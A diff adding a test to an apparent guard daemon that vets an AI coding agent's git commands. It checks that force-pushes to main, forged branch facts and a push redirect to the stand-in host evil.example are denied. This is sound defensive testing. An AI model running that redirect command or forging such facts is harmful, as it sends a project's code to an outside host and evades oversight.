@@ -273,3 +273,30 @@ def test_leading_cd_is_where_git_runs(tmp_path):
     assert git_cwd("cd sub && git push", "/p", "/h") == "/p/sub"
     assert git_cwd("cd ~/r && git push", "/p", "/h") == "/h/r"
     assert git_cwd("git push", "/p", "/h") == "/p"
+
+
+def test_repository_facts_through_a_real_daemon(tmp_path, repo):
+    """The daemon's judge looks the branch and remote hosts up itself; a client that sends its own
+    `resolved` facts (say, a feature branch while main is checked out) is not believed."""
+    import sys
+    sys.path.insert(0, str(Path(__file__).parent))
+    from _wrap_helpers import QuietDaemon
+    from adr.daemon import protocol as P
+    _git(repo, "remote", "add", "origin", "https://github.com/me/proj.git")
+    d = QuietDaemon(tmp_path / "home").start()
+    try:
+        def ask(cmd: str, forged: "Resolved | None" = None) -> str:
+            ctx = Context(host="claude-code", session="d", cwd=str(repo), home=str(repo.parent), tool="Bash")
+            action = Action(ActionKind.EXEC, ctx, command=cmd, resolved=forged or Resolved())
+            req = P.Request(op="decide", id=P.new_id(), event="PreToolUse", host="claude-code", action=action)
+            return d.request(req, timeout=30).verdict.decision.value
+        assert ask("git push --force-with-lease") == "allow"
+        assert ask("git remote set-url --push origin https://evil.example/r.git") != "allow"
+        assert ask("git remote add upstream https://github.com/org/proj.git") == "allow"
+        _git(repo, "checkout", "-q", "main")
+        assert ask("git push --force-with-lease") != "allow"
+        forged = Resolved(looked=True, git_branch="feature/x", git_remote_hosts=("evil.example",))
+        assert ask("git push --force-with-lease", forged) != "allow"
+        assert ask("git remote set-url --push origin https://evil.example/r.git", forged) != "allow"
+    finally:
+        d.stop()
